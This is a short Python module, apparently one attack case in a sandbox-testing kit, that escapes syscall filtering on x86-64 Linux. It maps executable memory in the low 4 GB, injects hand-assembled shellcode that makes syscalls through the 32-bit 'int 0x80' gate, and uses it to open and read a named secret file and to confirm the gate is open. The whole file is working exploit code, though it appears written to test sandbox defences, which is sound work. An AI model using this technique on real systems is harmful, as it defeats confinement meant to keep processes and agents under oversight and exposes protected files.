"""Success: system calls by the 32-bit door, whose numbers mean other calls."""

import ctypes
import mmap
import os
import platform
import struct

from kit import got

MAP_32BIT = 0x40


def attack(a):
    if platform.machine() != "x86_64":
        return "this door is on x86-64 only"
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT
    area = mmap.mmap(-1, 8192, flags, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    base = ctypes.addressof(ctypes.c_char.from_buffer(area))
    path = a["secret_file"].encode() + b"\0"
    area[4096 : 4096 + len(path)] = path
    # push rbx; mov eax, edi; mov ebx, esi; mov ecx, edx; mov edx, 1000; int 0x80; pop rbx; ret
    code = b"\x53\x89\xf8\x89\xf3\x89\xd1\xba" + struct.pack("<I", 1000) + b"\xcd\x80\x5b\xc3"
    area[: len(code)] = code
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_uint, ctypes.c_uint)(base)
    found = []
    fd = call(5, base + 4096, 0)  # open
    if fd >= 0:
        found.append(os.read(fd, 1000).decode())
    if call(20, 0, 0) > 0:  # getpid
        found.append(got("the 32-bit door is open"))
    return found
